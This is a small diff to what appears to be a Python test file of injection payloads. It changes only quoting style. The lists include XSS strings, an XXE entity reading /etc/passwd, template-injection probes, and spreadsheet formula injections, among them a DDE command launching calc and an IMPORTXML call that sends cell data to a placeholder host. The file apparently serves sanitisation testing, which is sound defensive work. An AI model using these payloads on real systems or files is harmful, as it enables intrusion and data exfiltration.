@@ -14,13 +14,13 @@ PAYLOADS = (
     "<svg><foreignObject><b>x</b></foreignObject></svg>", "<svg><animate attributeName=href values=javascript:1></svg>",
     "</svg></figure><p>free", "<?xml-stylesheet href='https://e.example'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
     "{{ 7*7 }}", "{% include 'report.css' %}", "{{ ''.__class__.__mro__ }}", "${7*7} #{7*7} <%= 7*7 %>", "$\\frac{1}{0}$ \\input{x}",
-    "[a](javascript:alert(1)) ![b](https://e.example/x.png)", "javascript:alert(1)", "=HYPERLINK(\"https://e.example\",\"x\")",
+    "[a](javascript:alert(1)) ![b](https://e.example/x.png)", "javascript:alert(1)", '=HYPERLINK("https://e.example","x")',
     "`~!@#$%^&*()_+|}{\":?><,./;'[]\\=-",
 )  # fmt: skip
 
 FORMULAS = (
     "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x", "  =1", '=HYPERLINK("x")',
     "{=1+1}", "\u00a0=1", "\u3000@x", "\u2003=1", "\u200b=1", "\ufeff=1", "=cmd|' /C calc'!A0", "\x0b=1", "\u2028=1",
-    "=IMPORTXML(CONCAT(\"https://e.example/\",A1),\"//a\")", "%0A=1", "https://e.example/x", "mailto:a@e.example",
+    '=IMPORTXML(CONCAT("https://e.example/",A1),"//a")', "%0A=1", "https://e.example/x", "mailto:a@e.example",
     "internal:Sheet1!A1", "file:///etc/passwd", "0001", "1e9", "-3.5", "TRUE", "2026-01-01",
 )  # fmt: skip
